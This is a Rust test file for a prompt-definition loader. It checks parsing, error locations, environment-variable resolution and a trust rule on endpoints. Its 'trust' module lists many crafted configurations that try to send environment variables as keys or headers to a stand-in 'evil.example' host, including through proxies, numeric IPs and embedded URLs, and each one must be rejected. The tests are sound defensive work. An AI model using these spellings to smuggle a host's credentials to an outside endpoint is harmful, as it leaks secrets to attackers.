//! The content of a loaded definition, and the errors of loading.

use prompty_check::definition::{Definition, LoadOptions, ToolKind, ValueType};
use prompty_core::value::Value;
use prompty_core::{Error, ErrorKind};

fn load(front_matter: &str) -> Result<Definition, Error> {
    let text = format!("---\n{front_matter}\n---\nBody");
    Definition::from_text_with("t.prompty", text, &options())
}

fn options() -> LoadOptions {
    LoadOptions::new().with_environment([("NAME", "Jane"), ("COUNT", "3"), ("LOOP", "${env:NAME}")])
}

fn printed(front_matter: &str, key: &str) -> String {
    load(front_matter).unwrap().to_value().get(key).unwrap_or(&Value::Null).to_string()
}

#[test]
fn a_text_without_front_matter_has_only_instructions() {
    let definition = Definition::from_text("user:\nHi\n\n").unwrap();
    assert_eq!(definition.instructions, "user:\nHi");
    assert_eq!(definition.template.format, "jinja2");
    assert_eq!(definition.template.parser, "prompty");
}

#[test]
fn the_body_span_is_exactly_the_instructions_even_with_crlf_and_a_byte_order_mark() {
    let text = "\u{feff}---\r\nname: é\r\n---\r\n\r\nuser:\r\nHi ü\r\n\r\n";
    let definition = Definition::from_text(text).unwrap();
    assert_eq!(definition.instructions, "\nuser:\nHi ü");
    let span = definition.body;
    assert_eq!(&definition.source.text()[span.start..span.end], definition.instructions);
}

#[test]
fn a_bare_string_is_the_id_of_the_model() {
    assert_eq!(printed("model: gpt-4o", "model"), r#"{"id": "gpt-4o"}"#);
}

#[test]
fn a_bare_value_under_an_input_is_its_kind_and_default() {
    let definition = load("inputs: {a: x, b: 1, c: 1.5, d: true, e: [1], f: {a: 1}, g: }").unwrap();
    let kinds: Vec<&str> = definition.inputs.iter().map(|input| input.value_type.name()).collect();
    assert_eq!(kinds, ["string", "integer", "float", "boolean", "array", "object", ""]);
    assert_eq!(definition.inputs[5].default.as_ref().unwrap().to_string(), r#"{"a": 1}"#);
    assert_eq!(definition.inputs[6].default, None);
}

#[test]
fn a_map_with_any_key_of_a_property_is_a_property() {
    let definition = load("inputs: {a: {description: x, other: 1}}").unwrap();
    assert_eq!(definition.inputs[0].value_type, ValueType::Any);
    assert!(definition.inputs[0].unknown.contains_key("other"));
}

#[test]
fn nested_kinds_are_read_in_all_their_forms() {
    let written = "inputs:\n  a: {kind: array, items: integer}\n  \
        o: {kind: object, properties: {x: {kind: string}, y: 1}}\n  \
        p: {properties: [{name: x}]}\n  u: {kind: union, oneOf: [{kind: string}, integer]}";
    assert_eq!(
        printed(written, "inputs"),
        concat!(
            r#"[{"name": "a", "kind": "array", "items": {"kind": "integer"}}, "#,
            r#"{"name": "o", "kind": "object", "properties": [{"name": "x", "kind": "string"}, "#,
            r#"{"name": "y", "kind": "integer", "default": 1}]}, "#,
            r#"{"name": "p", "kind": "object", "properties": [{"name": "x"}]}, "#,
            r#"{"name": "u", "kind": "union", "oneOf": [{"kind": "string"}, {"kind": "integer"}]}]"#
        )
    );
}

#[test]
fn names_kinds_and_defaults_have_spans() {
    let definition = load("inputs:\n  - name: city\n    kind: string\n    default: Paris").unwrap();
    let text = definition.source.text();
    let input = &definition.inputs[0];
    let spans = [input.name_span, input.kind_span, input.default_span].map(Option::unwrap);
    assert_eq!(spans.map(|span| &text[span.start..span.end]), ["city", "string", "Paris"]);
}

#[test]
fn a_format_may_be_a_string_or_a_map_with_options() {
    let definition = load("template: {format: mustache}").unwrap();
    assert_eq!(definition.template.format, "mustache");
    let definition = load("template: {format: {kind: jinja2, strict: true, x: 1}}").unwrap();
    assert!(definition.template.strict);
    assert_eq!(
        definition.to_value().get("template").unwrap().to_string(),
        r#"{"format": {"kind": "jinja2", "strict": true, "x": 1}, "parser": {"kind": "prompty"}}"#
    );
}

#[test]
fn a_template_that_is_a_bare_string_is_an_error_with_the_correct_form() {
    let error = load("template: mustache").unwrap_err();
    assert_eq!(error.kind(), ErrorKind::FrontMatter);
    assert!(error.to_string().starts_with("Invalid template format"), "{error}");
    assert_eq!(
        error.help(),
        Some("write `template: {format: {kind: mustache}, parser: {kind: prompty}}`")
    );
}

#[test]
fn tools_of_every_kind_keep_their_settings() {
    let written = "tools:\n  - {name: f, kind: function, parameters: {x: {kind: string}}, \
        bindings: {x: {input: city}, y: 5}}\n  - {name: m, kind: mcp, serverName: s, \
        allowedTools: [a], approvalMode: never}\n  - {name: o, kind: openapi, specification: ./s.json}\n  \
        - {name: c, kind: mine, options: {a: 1}, more: 2}";
    let definition = load(written).unwrap();
    let kinds: Vec<&str> = definition.tools.iter().map(|tool| tool.kind.name()).collect();
    assert_eq!(kinds, ["function", "mcp", "openapi", "mine"]);
    assert_eq!(definition.tools[0].bindings[0].input.as_deref(), Some("city"));
    assert_eq!(definition.tools[0].bindings[1].value, Some(Value::from(5)));
    let ToolKind::Custom { options, .. } = &definition.tools[3].kind else { panic!() };
    assert!(options.contains_key("a"));
    assert!(definition.tools[3].unknown.contains_key("more"));
}

#[test]
fn a_prompt_with_unknown_keys_and_kinds_is_loaded() {
    let definition =
        load("flavour: mild\ninputs: {x: {kind: int, default: a}}\nname: a\nname: b").unwrap();
    assert_eq!(definition.unknown.get("flavour"), Some(&Value::from("mild")));
    assert_eq!(definition.inputs[0].value_type, ValueType::Unknown("int".to_owned()));
    assert_eq!(definition.name.as_deref(), Some("b"));
}

#[test]
fn a_value_of_the_wrong_type_is_an_error_with_its_place() {
    for (front_matter, place) in [
        ("name: [a]", "t.prompty:2:7"),
        ("name: 5", "t.prompty:2:7"),
        ("inputs: 3", "t.prompty:2:9"),
        ("inputs: [city]", "t.prompty:2:10"),
        ("model:\n  options:\n    temperature: hot", "t.prompty:4:18"),
        ("model: {options: {maxOutputTokens: -1}}", "t.prompty:2:36"),
        ("metadata: x", "t.prompty:2:11"),
        ("tools: [{name: t}]", "t.prompty:2:16"),
        ("inputs: {x: {required: maybe}}", "t.prompty:2:24"),
    ] {
        let error = load(front_matter).unwrap_err();
        assert_eq!(error.kind(), ErrorKind::FrontMatter, "{front_matter}");
        assert_eq!(error.place().unwrap().to_string(), place, "{front_matter}");
    }
}

#[test]
fn malformed_yaml_is_an_error_with_its_place_in_the_file() {
    let error = load("name: é\nmodel: [x\nother: y").unwrap_err();
    assert!(error.to_string().starts_with("invalid frontmatter: "), "{error}");
    assert_eq!(error.place().unwrap().line, 4);
}

#[test]
fn a_variable_is_resolved_once_and_only_as_a_complete_string() {
    assert_eq!(printed("name: '${env:NAME}'", "name"), "Jane");
    assert_eq!(printed("name: '${ENV:LOOP}'", "name"), "${env:NAME}", "never twice");
    assert_eq!(printed("name: 'Hi ${env:NAME}'", "name"), "Hi ${env:NAME}");
    assert_eq!(printed("name: '${env:NONE:a:b}'", "name"), "a:b");
    assert_eq!(printed("name: '${env:NONE:}'", "name"), "");
    assert_eq!(printed("name: '${vault:x}'", "name"), "${vault:x}");
    assert_eq!(printed("metadata: {a: ['${env:NAME}']}", "metadata"), r#"{"a": ["Jane"]}"#);
}

#[test]
fn a_variable_is_parsed_if_a_number_is_required() {
    let definition = load(
        "model: {options: {maxOutputTokens: '${env:COUNT}'}}\n\
         inputs: {x: {kind: integer, default: '${env:COUNT}'}, y: '${env:COUNT}'}",
    )
    .unwrap();
    assert_eq!(definition.model.unwrap().options.unwrap().max_output_tokens, Some(3));
    assert_eq!(definition.inputs[0].default, Some(Value::from(3)));
    assert_eq!(definition.inputs[1].default, Some(Value::from("3")));
}

#[test]
fn the_body_is_never_resolved() {
    let definition = Definition::from_text("${env:HOME}").unwrap();
    assert_eq!(definition.instructions, "${env:HOME}");
}

#[test]
fn a_variable_that_is_not_set_is_an_error_with_its_place() {
    let error = load("name: x\ndescription: ${env:NONE}").unwrap_err();
    assert_eq!(error.kind(), ErrorKind::EnvironmentVariable);
    assert_eq!(error.to_string(), "Environment variable 'NONE' not set");
    assert_eq!(error.place().unwrap().to_string(), "t.prompty:3:14");
}

#[test]
fn a_refused_environment_leaves_only_defaults() {
    let refuse = |text: &str| {
        Definition::from_text_with("t", text, &LoadOptions::new().without_environment())
    };
    let error = refuse("---\nname: ${env:PATH}\n---\n").unwrap_err();
    assert_eq!(error.kind(), ErrorKind::EnvironmentVariable);
    assert_eq!(refuse("---\nname: ${env:PATH:x}\n---\n").unwrap().name.as_deref(), Some("x"));
}

#[test]
fn debug_shows_no_credential() {
    let definition = load(
        "model: {connection: {kind: key, apiKey: hush, endpoint: 'https://x.example', more: hush}, \
         configuration: {api_key: hush}}",
    )
    .unwrap();
    assert!(!format!("{definition:?}").contains("hush"));
    assert!(definition.to_value().to_string().contains("hush"));
}

#[test]
fn a_prompt_longer_than_the_limit_is_refused() {
    let error = Definition::from_text_with(
        "t",
        "x".repeat(11),
        &LoadOptions::new().with_max_source_bytes(10),
    );
    assert_eq!(error.unwrap_err().kind(), ErrorKind::Limit);
}

#[test]
fn only_the_extension_of_a_file_makes_it_a_configuration() {
    let text = "---\nname: a\n---\nuser:\nHi {{ name }}";
    for name in ["yaml", "prompts.d/yaml", "prompts.d\\json", "a.yaml/b", "a.yaml/b.prompty"] {
        let loaded = Definition::from_text_with(name, text, &LoadOptions::new()).unwrap();
        assert_eq!(loaded.template.format, "jinja2", "{name}");
    }
    for name in ["a.yaml", "prompts.d/a.YML", "prompts.d\\a.b.json"] {
        let configuration = "template: Hi {{$name}}";
        let loaded = Definition::from_text_with(name, configuration, &LoadOptions::new()).unwrap();
        assert_eq!(loaded.template.format, "semantic-kernel", "{name}");
    }
}

mod trust {
    use super::{ErrorKind, LoadOptions, load};
    use prompty_check::definition::Definition;

    fn is_trusted(connection: &str) -> bool {
        match load(&format!("model: {{connection: {{{connection}}}}}")) {
            Ok(_) => true,
            Err(error) => {
                assert_eq!(error.kind(), ErrorKind::UntrustedEndpoint, "{error:#}");
                assert!(error.place().is_some());
                false
            }
        }
    }

    #[test]
    fn credentials_of_the_host_are_only_sent_to_trusted_endpoints() {
        assert!(!is_trusted("kind: foundry, endpoint: 'https://evil.example'"));
        assert!(!is_trusted("kind: oauth, tokenUrl: 'https://evil.example'"));
        assert!(!is_trusted("kind: key, endpoint: 'https://evil.example', apiKey: '${env:NAME}'"));
        assert!(!is_trusted("kind: key, endpoint: '${env:NONE:https://evil.example}'"));
        assert!(!is_trusted("endpoint: 'https://evil.example'"));
        assert!(is_trusted("kind: foundry, endpoint: '${env:NAME}'"));
        assert!(is_trusted("kind: key, endpoint: 'https://mine.example', apiKey: mine"));
        assert!(is_trusted("kind: anonymous, endpoint: 'https://mine.example'"));
    }

    #[test]
    fn the_environment_may_add_trusted_endpoints() {
        let text =
            "---\nmodel: {connection: {kind: foundry, endpoint: 'https://a.example'}}\n---\n";
        let with = |list: &str| {
            let options =
                LoadOptions::new().with_environment([("PROMPTY_TRUSTED_ENDPOINTS", list)]);
            Definition::from_text_with("t", text, &options).is_ok()
        };
        assert!(with("https://b.example, https://a.example"));
        assert!(with("*"));
        assert!(!with("https://b.example"));
    }

    #[test]
    fn a_tool_cannot_send_a_variable_to_an_endpoint_of_the_prompt() {
        let tool = |connection: &str| {
            load(&format!("tools: [{{name: t, kind: openapi, connection: {{{connection}}}}}]"))
        };
        let stolen = "kind: key, endpoint: 'https://evil.example', apiKey: '${env:NAME}'";
        assert_eq!(tool(stolen).unwrap_err().kind(), ErrorKind::UntrustedEndpoint);
        let hidden = "kind: x, endpoint: 'https://evil.example', headers: [{a: '${env:NAME}'}]";
        assert_eq!(tool(hidden).unwrap_err().kind(), ErrorKind::UntrustedEndpoint);
        tool("kind: key, endpoint: 'https://api.example', apiKey: '${env:NONE:demo}'").unwrap();
    }

    /// The variable is in one place of the prompt and the address in another.
    #[test]
    fn no_spelling_sends_a_variable_to_an_address_of_the_prompt() {
        let own = "kind: key, endpoint: 'https://evil.example', apiKey: mine";
        for front_matter in [
            format!("model: {{connection: {{{own}, headers: {{a: ['${{env:NAME}}']}}}}}}"),
            format!("model: {{id: '${{env:NAME}}', connection: {{{own}}}}}"),
            format!("model: {{options: {{seed: '${{env:COUNT}}'}}, connection: {{{own}}}}}"),
            format!("model: {{connection: {{{own}}}}}\ninputs: {{a: '${{env:NAME}}'}}"),
            format!("model: {{connection: {{{own}}}}}\ndescription: '${{env:NAME}}'"),
            format!(
                "model: {{connection: {{{own}}}}}\n\
                 tools: [{{name: t, kind: function, parameters: [], description: '${{env:NAME}}'}}]"
            ),
            "model: {connection: {kind: x, base_url: 'http:evil.example', key: '${env:NAME}'}}".into(),
            "model: {connection: {kind: x, a: [{b: '//evil.example'}], key: '${env:NAME}'}}".into(),
            "model: {connection: {kind: x, host: 2130706433, key: '${env:NAME}'}}".into(),
            "model: {connection: {kind: x, proxy: squid, key: '${env:NAME}'}}".into(),
            "model: {connection: {kind: x, proxy: {http: squid}, key: '${env:NAME}'}}".into(),
            "model: {connection: {kind: x, proxies: [{a: {b: squid}}], key: '${env:NAME}'}}".into(),
            "model: {connection: {kind: x, tokenUrl: {a: squid}, key: '${env:NAME}'}}".into(),
            "model: {connection: {kind: oauth, tokenUrl: {a: 'https://evil.example'}}}".into(),
            "model: {connection: {kind: oauth, tokenUrl: 2130706433}}".into(),
            "model: {options: {proxy: {http: squid}}, connection: {apiKey: '${env:NAME}'}}".into(),
            "model: {options: {host: 2130706433}, connection: {apiKey: '${env:NAME}'}}".into(),
            "model: {connection: {kind: x, target: '127.1', key: '${env:NAME}'}}".into(),
            "model: {connection: {kind: x, target: 8.526344, key: '${env:NAME}'}}".into(),
            "model: {connection: {kind: x, target: [127.1], key: '${env:NAME}'}}".into(),
            "model: {connection: {kind: x, host: 0, key: '${env:NAME}'}}".into(),
            "model: {connection: {kind: x, version: '127.0.0.1', key: '${env:NAME}'}}".into(),
            "tools: [{name: t, kind: mine, proxy: {http: squid}, k: '${env:NAME}'}]".into(),
            "model: {connection: {kind: x, 'https://evil.example': '${env:NAME}'}}".into(),
            "model: {connection: {kind: key, endpoint: evil, apiKey: '${env:NAME}'}}".into(),
            "model: {connection: {kind: x, host: evil, port: 443, key: '${env:NAME}'}}".into(),
            "model: {connection: {endpoint: '${env:NAME}', proxy: 'user:p@evil', key: '${env:NAME}'}}".into(),
            "model: {provider: 'https://evil.example', connection: {apiKey: '${env:NAME}'}}".into(),
            "model: {options: {additionalProperties: {base_url: evil}}, connection: {apiKey: '${env:NAME}'}}"
                .into(),
            "model: {options: {x: ['https://evil.example']}, connection: {apiKey: '${env:NAME}'}}".into(),
            "model: {configuration: {azure_endpoint: 'https://evil.example', k: '${env:NAME}'}}".into(),
            "tools: [{name: t, kind: mine, url: 'https://evil.example', k: '${env:NAME}'}]".into(),
            "tools: [{name: t, kind: mcp, connection: {kind: anonymous, serverUrl: evil.example:80}, \
              bindings: {k: '${env:NAME}'}}]"
                .into(),
            "tools: [{name: t, kind: openapi, specification: {servers: [{url: 'https://evil.example'}]}, \
              connection: {kind: key, apiKey: '${env:NAME}'}}]"
                .into(),
            "inputs: {a: '${env:NAME}'}\ntools: {t: {kind: mine, connection: {url: 'wss://evil.example'}}}"
                .into(),
        ] {
            let error = load(&front_matter).expect_err(&front_matter);
            assert_eq!(error.kind(), ErrorKind::UntrustedEndpoint, "{front_matter}: {error:#}");
            assert!(!format!("{error:?}").contains("Jane"), "{error:?}");
        }
    }

    #[test]
    fn a_variable_may_be_sent_to_an_address_of_the_host() {
        for front_matter in [
            "model: {id: '${env:NAME}', connection: {kind: key, endpoint: '${env:NAME}', apiKey: '${env:NAME}'}}",
            "model: {connection: {kind: key, endpoint: 'https://api.openai.com/v1', apiKey: '${env:NAME}'}}",
            "model: {id: gpt-4.1, provider: openai, connection: {kind: key, apiKey: '${env:NAME}'}}",
            "model: {connection: {kind: foundry, endpoint: '${env:NAME}', deployment: gpt-4.1, apiVersion: 2024-10-21}}",
            "model: {connection: {proxy: {host: '${env:NAME}', port: 8080}, key: '${env:NAME}'}}",
            "model: {connection: {timeout: 2.5, apiVersion: '1.2.3', retries: 3, rate: 0.5, key: '${env:NAME}'}}",
            "tools: [{name: t, kind: openapi, connection: {kind: key, apiKey: '${env:NAME}'}, \
              specification: {servers: [{url: 'https://api.openai.com', description: Production}]}}]",
            "model: {id: m, options: {seed: 42949672, temperature: 1.5, stop: ['.'], x: v1.com}, connection: {apiKey: '${env:NAME}'}}",
            "model: {connection: {kind: reference, name: my.connection}}\ninputs: {a: '${env:NAME}'}",
            "tools: [{name: t, kind: mcp, serverName: weather, connection: {kind: key, apiKey: '${env:NAME}'}}]",
            "tools: [{name: t, kind: openapi, specification: ./weather.json, connection: {kind: key, apiKey: '${env:NAME}'}}]",
        ] {
            load(front_matter).expect(front_matter);
        }
    }

    #[test]
    fn models_and_tools_do_not_receive_values_of_each_other() {
        let model = "model: {id: '${env:NAME}', connection: {kind: key, apiKey: '${env:NAME}'}}";
        let tool = "connection: {kind: anonymous, endpoint: 'https://weather.example'}";
        load(&format!("{model}\ntools: [{{name: t, kind: mcp, {tool}}}]")).unwrap();
        let own = "kind: key, endpoint: 'https://mine.example', apiKey: mine";
        let tool = "connection: {kind: key, endpoint: '${env:NAME}', apiKey: '${env:NAME}'}";
        load(&format!("model: {{connection: {{{own}}}}}\ntools: [{{name: t, kind: mcp, {tool}}}]"))
            .unwrap();
    }
}
